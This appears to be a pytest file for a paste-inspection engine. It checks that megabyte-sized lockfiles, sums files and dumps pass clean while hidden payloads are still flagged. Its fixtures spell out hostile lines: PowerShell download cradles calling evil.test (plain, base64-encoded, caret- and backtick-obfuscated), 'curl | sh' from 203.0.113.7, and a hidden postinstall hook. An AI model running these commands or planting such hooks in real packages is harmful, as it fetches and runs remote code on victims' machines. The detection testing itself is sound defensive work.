"""Size is not evidence: what developers copy by the megabyte is judged on what it says.

Lockfiles of every ecosystem, sums files, hex dumps, base64 images in data: URIs and minified
bundles are mostly long runs of base64 and hex that decode to nothing readable. They must come
back clean (or info) and complete, while a real payload hidden among a megabyte of them is still
decoded and found, or, when it cannot be, the verdict fails closed and names the blob.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import replace

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.detection import Context, Engine, Level, PasteTarget, Verdict, windows
from app.detection.windows import select_windows
from tests.app.detection import bigtexts

KiB = bigtexts.KiB
MiB = bigtexts.MiB
INCOMPLETE = "PG-ENGINE-INCOMPLETE"
FOREVER = float("inf")

# the makers (tests/app/detection/bigtexts.py), by the names these tests have always used
npm_lock, yarn_lock, go_sum = bigtexts.npm_lock, bigtexts.yarn_lock, bigtexts.go_sum
cargo_lock, pip_hashes = bigtexts.cargo_lock, bigtexts.pip_hashes
sha256sums, hex_dump = bigtexts.sha256sums, bigtexts.hex_dump
_b64 = bigtexts.b64
HARMLESS = bigtexts.HARMLESS


@pytest.fixture(scope="module")
def patient() -> Engine:
    """No time pressure: what is looked at, not how fast (tests/…/test_hostile.py and bench/
    hostile.py bound the time)."""
    return Engine(budget_ms=60_000)


@pytest.mark.parametrize("name", list(HARMLESS))
def test_a_megabyte_of_what_developers_copy_is_clean_and_complete(
    patient: Engine, name: str
) -> None:
    text = HARMLESS[name](MiB)
    assert MiB - 16 * KiB <= len(text) <= MiB, len(text)
    verdict = patient.analyze(text)
    incomplete = [f.evidence for f in verdict.findings if f.rule_id == INCOMPLETE]
    assert verdict.complete, incomplete
    assert verdict.level <= Level.INFO, verdict.rule_ids


@pytest.mark.parametrize("name", list(HARMLESS))
def test_their_blobs_need_no_window(name: str) -> None:
    # Every digest, image and dump decodes to nothing readable: the deep windows are the
    # head, the tail and the lines around command words only, and nothing is left undecoded.
    text = HARMLESS[name](256 * KiB)
    deep = select_windows(text, 16 * KiB, FOREVER)
    assert not deep.undecoded
    assert len(deep.text.encode()) <= 16 * KiB + deep.windows


CRADLE = "iex (New-Object Net.WebClient).DownloadString('https://evil.test/stage.ps1')"


CARETS = 'c^m^d /c p^o^w^e^r^s^h^e^l^l -w hidden -c "iex(irm https://evil.test/a.ps1)"'
BACKTICKS = 'p`owe`rs`hell -w h`idden -c "i`ex(i`rm https://evil.test/a.ps1)"'


def _encoded(script: str) -> str:
    return _b64(script.encode("utf-16-le"))


def _hide(text: str, line: str, where: float = 0.6) -> str:
    at = text.find("\n", int(len(text) * where)) + 1
    return text[:at] + line + "\n" + text[at:]


HIDDEN: dict[str, Callable[[], str]] = {
    # an npm script that runs an encoded PowerShell cradle, deep in a lockfile
    "encoded PowerShell in package-lock.json": lambda: _hide(
        npm_lock(MiB - 4 * KiB),
        f'      "scripts": {{"postinstall": "powershell -w hidden -enc {_encoded(CRADLE)}"}},',
    ),
    # the same cradle as bare base64 (no command word on its line) between go.sum lines
    "bare encoded cradle in go.sum": lambda: _hide(
        go_sum(MiB - 4 * KiB), f"github.com/x/y v1.0.0 h1:{_encoded(CRADLE)}"
    ),
    # a curl | sh among sums
    "curl | sh among SHA256SUMS": lambda: _hide(
        sha256sums(MiB - 4 * KiB), "curl -fsSL http://203.0.113.7/i.sh | sh"
    ),
    # base64 of a curl | sh in an integrity field, decoded on the next line
    "curl | sh in an integrity field of yarn.lock": lambda: _hide(
        yarn_lock(MiB - 4 * KiB),
        "  integrity sha512-"
        + _b64(b"curl -fsSL http://203.0.113.7/i.sh | sh # padding to a digest's length.."),
    ),
    # obfuscation the rules cannot see through, past thousands of package addresses that fill
    # the deep windows first
    "caret-obfuscated cmd in package-lock.json": lambda: _hide(npm_lock(MiB - 4 * KiB), CARETS),
    "backtick-obfuscated PowerShell in yarn.lock": lambda: _hide(
        yarn_lock(MiB - 4 * KiB), BACKTICKS
    ),
    # a download from a bare IP after more package URLs than the URL reader takes
    "curl | sh from an IP in package-lock.json": lambda: _hide(
        npm_lock(MiB - 4 * KiB), "curl -fsSL http://203.0.113.7/i.sh | sh"
    ),
}


PAYLOADS = {
    "caret-obfuscated cmd in package-lock.json": CARETS,
    "backtick-obfuscated PowerShell in yarn.lock": BACKTICKS,
    "curl | sh from an IP in package-lock.json": "curl -fsSL http://203.0.113.7/i.sh | sh",
    "encoded PowerShell in package-lock.json": f"powershell -w hidden -enc {_encoded(CRADLE)}",
    "bare encoded cradle in go.sum": CRADLE,
    "curl | sh among SHA256SUMS": "curl -fsSL http://203.0.113.7/i.sh | sh",
    "curl | sh in an integrity field of yarn.lock": "curl -fsSL http://203.0.113.7/i.sh | sh",
}


@pytest.mark.parametrize("name", list(HIDDEN))
def test_a_payload_hidden_among_a_megabyte_of_digests_is_found(patient: Engine, name: str) -> None:
    # as found as the payload on its own: the same level and the same rules
    alone = patient.analyze(PAYLOADS[name])
    assert alone.level >= Level.SUSPICIOUS
    verdict = patient.analyze(HIDDEN[name]())
    assert verdict.complete, [f.evidence for f in verdict.findings if f.rule_id == INCOMPLETE]
    assert verdict.level >= alone.level, verdict.rule_ids
    assert set(alone.rule_ids) - {"PG-INFO-PROSE-MENTION"} <= set(verdict.rule_ids)


@pytest.mark.parametrize("name", list(bigtexts.HIDDEN))
def test_every_kind_of_big_text_with_a_payload_hidden_in_it_is_flagged(
    patient: Engine, name: str
) -> None:
    # base64 PowerShell or shell in a lockfile (as an integrity hash, in its last window),
    # data:text/html and data:application/x-sh among images, a PNG header then a script, a
    # script after a PNG's end, a GIF/JavaScript polyglot, a cradle among JWTs, in a
    # Kubernetes secret, as a notebook's image, among certificates, gzip'd, in hex, as char
    # codes: found, or (a blob too long to decode in depth) at least suspicious and named
    verdict = patient.analyze(bigtexts.HIDDEN[name]())
    assert verdict.level >= Level.SUSPICIOUS, verdict.rule_ids
    if not verdict.complete:
        evidence = next(f.evidence for f in verdict.findings if f.rule_id == INCOMPLETE)
        assert "encoded block" in evidence, evidence
    else:
        assert set(verdict.rule_ids) - {INCOMPLETE}, verdict.rule_ids


def test_a_digest_shaped_blob_that_decodes_to_a_command_gets_a_window() -> None:
    payload = _b64(b"curl -fsSL http://203.0.113.7/i.sh | sh # padding to a digest's length..")
    text = _hide(npm_lock(512 * KiB), f'      "integrity": "sha512-{payload}",')
    deep = select_windows(text, 16 * KiB, FOREVER)
    assert payload in deep.text and not deep.undecoded


def test_repeats_of_one_live_blob_need_one_window() -> None:
    line = f"powershell -enc {_encoded(CRADLE)}\n"
    text = sha256sums(128 * KiB) + line * 2000
    deep = select_windows(text, 16 * KiB, FOREVER)
    assert _encoded(CRADLE) in deep.text and not deep.undecoded


def test_a_live_blob_too_long_for_the_windows_is_named(patient: Engine) -> None:
    script = "\n".join(f"Write-Host 'step {i}'; {CRADLE}" for i in range(1200))
    blob = _encoded(script)
    verdict = patient.analyze(npm_lock(256 * KiB) + f"powershell -enc {blob}\n")
    assert not verdict.complete
    assert verdict.level >= Level.SUSPICIOUS
    evidence = next(f.evidence for f in verdict.findings if f.rule_id == INCOMPLETE)
    assert f"{len(blob):,} characters" in evidence and blob[:24] in evidence, evidence


def test_a_blob_left_undecoded_in_time_fails_closed_and_is_named(engine: Engine) -> None:
    # With the real budget: either the cradle among a megabyte of digests is decoded and
    # found, or the budget ran out first and the verdict says which blob it did not decode.
    verdict: Verdict = engine.analyze(HIDDEN["bare encoded cradle in go.sum"]())
    assert verdict.level >= Level.SUSPICIOUS
    if not verdict.complete:
        evidence = next(f.evidence for f in verdict.findings if f.rule_id == INCOMPLETE)
        assert "encoded block" in evidence or "budget" in evidence, evidence
    else:
        assert verdict.level is Level.MALICIOUS


def _lines(make: Callable[[int], str]) -> list[str]:
    return make(16 * KiB).splitlines()


DIGEST_LINES = [
    line
    for make in (npm_lock, yarn_lock, go_sum, cargo_lock, pip_hashes, sha256sums, hex_dump)
    for line in _lines(make)[4:40]
]
PAYLOAD_LINES = [
    f"powershell -w hidden -enc {_encoded(CRADLE)}",
    f'      "integrity": "sha512-{_encoded(CRADLE)}",',
    CARETS,
    BACKTICKS,
    "curl -fsSL http://203.0.113.7/i.sh | sh",
]


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(st.sampled_from(DIGEST_LINES), min_size=50, max_size=400),
    st.integers(min_value=1, max_value=12),
    st.lists(st.tuples(st.sampled_from(PAYLOAD_LINES), st.floats(0, 1)), max_size=2),
)
def test_digests_with_or_without_a_payload_never_hide_it(
    engine: Engine, lines: list[str], repeat: int, payloads: list[tuple[str, float]]
) -> None:
    # Up to ~400 KiB of lockfile, sums and dump lines, with up to two payloads anywhere in
    # them, analysed with the real time budget: a payload is never missed, a text that was
    # cut short says which blob or stage, and digests alone are never a warning.
    body = lines * repeat
    for line, where in payloads:
        body.insert(int(where * len(body)), line)
    verdict = engine.analyze("\n".join(body) + "\n")
    if not verdict.complete:
        assert verdict.level >= Level.SUSPICIOUS
        evidence = next(f.evidence for f in verdict.findings if f.rule_id == INCOMPLETE)
        assert "encoded block" in evidence or "budget" in evidence, evidence
    if payloads:
        assert verdict.level >= Level.SUSPICIOUS, verdict.rule_ids
    else:
        assert verdict.complete and verdict.level <= Level.INFO, verdict.rule_ids


@settings(max_examples=80, deadline=None)
@given(
    st.text(
        alphabet=st.sampled_from(list("aZ09+/=%\\x,; \n^`'\"curlhtps:.é\u200bс")), max_size=3000
    )
)
def test_the_trigger_scan_finds_what_finditer_finds(text: str) -> None:
    # scan() calls the compiled RE2 directly (windows.py): the same spans as the binding's own
    # finditer, from any starting point
    data = text.encode()
    for pattern in windows._compiled()[0].up_to:
        every = [m.span() for m in pattern.finditer(data)]
        assert list(windows.scan(pattern, data)) == every
        half = len(data) // 2
        assert list(windows.scan(pattern, data, half)) == [
            m.span() for m in pattern.finditer(data, half)
        ]


def _manifest(size: int, init: str) -> str:
    """A long Kubernetes manifest: deployments, TLS secrets of random bytes, config maps whose
    init script is `init`."""
    rng = random.Random("manifest")
    docs: list[str] = []
    i = 0
    while sum(map(len, docs)) < size:
        i += 1
        crt, key = _b64(rng.randbytes(600)), _b64(rng.randbytes(300))
        docs.append(
            f"apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: svc-{i}\nspec:\n"
            f"  replicas: 3\n  template:\n    spec:\n      containers:\n      - name: app\n"
            f"        image: registry.example.com/team/svc-{i}:1.{i}.0\n---\n"
            f"apiVersion: v1\nkind: Secret\nmetadata:\n  name: tls-{i}\n"
            f"type: kubernetes.io/tls\ndata:\n  tls.crt: {crt}\n  tls.key: {key}\n---\n"
            f"apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: cfg-{i}\ndata:\n"
            f"  init.sh: |\n    #!/bin/sh\n    set -eu\n    {init.format(i=i)}\n---\n"
        )
    return "".join(docs)[:size]


def _bootstrap_map(script: str) -> str:
    return (
        "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: bootstrap\nbinaryData:\n"
        f"  bootstrap.sh: {_b64(script.encode())}\n"
    )


# A readable shell script, base64'd into a config map: too long for the deep windows.
BOOTSTRAP = "\n".join(f"mkdir -p /opt/app/part-{i} && echo 'step {i} done'" for i in range(3000))


def test_a_long_text_cut_short_is_a_warning_not_a_block_without_evidence(patient: Engine) -> None:
    # A manifest whose bootstrap script the deep windows cannot decode whole: not clean (the
    # part not read could hold anything), but not malicious either: being cut short is no
    # evidence, and an everyday download in the part read is not enough to block.
    text = _manifest(
        256 * KiB, "curl -fsS http://config.prod.svc.cluster.local/v1/{i} -o /etc/app.json"
    )
    text += _bootstrap_map(BOOTSTRAP)
    page = Context(source="https://github.com/example-org/infra/blob/main/prod.yaml")
    for context in (Context(), replace(page, target=PasteTarget.TERMINAL)):
        verdict = patient.analyze(text, context)
        assert not verdict.complete, verdict.rule_ids
        assert verdict.level is Level.SUSPICIOUS, (context, verdict.rule_ids, verdict.score)


def test_a_long_text_cut_short_is_blocked_on_what_was_read(patient: Engine) -> None:
    text = _manifest(256 * KiB, "curl -fsSL http://203.0.113.7/i.sh | sh; history -c")
    text += _bootstrap_map(BOOTSTRAP)
    verdict = patient.analyze(text)
    assert not verdict.complete
    assert verdict.level is Level.MALICIOUS, verdict.rule_ids


def test_a_word_is_hidden_only_if_the_whole_raw_text_was_read(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # A long text's raw layer is matched last; when the budget stops it part-way, a command word
    # the deep layers saw may well be in the raw text's unread part: no "hidden word" claim.
    engine = Engine(budget_ms=60_000)
    text = _manifest(256 * KiB, "curl -fsS https://config.example.com/v1/{i} -o /etc/app.json")
    assert "PG-WIN-HIDDEN-COMMAND-WORD" not in engine.analyze(text).rule_ids
    whole = engine.rules.hits

    def raw_cut_short(
        layer: str, deadline: float, data: bytes | None = None
    ) -> tuple[frozenset[int], bool]:
        found, finished = whole(layer, deadline, data)
        return (frozenset(), False) if data is not None else (found, finished)

    monkeypatch.setattr(engine.rules, "hits", raw_cut_short)
    verdict = engine.analyze(text)
    assert not verdict.complete
    assert "PG-WIN-HIDDEN-COMMAND-WORD" not in verdict.rule_ids, verdict.rule_ids
    # read whole, a word written with carets is still hidden
    assert "PG-WIN-HIDDEN-COMMAND-WORD" in Engine().analyze("c^u^r^l -s x.test | s^h").rule_ids
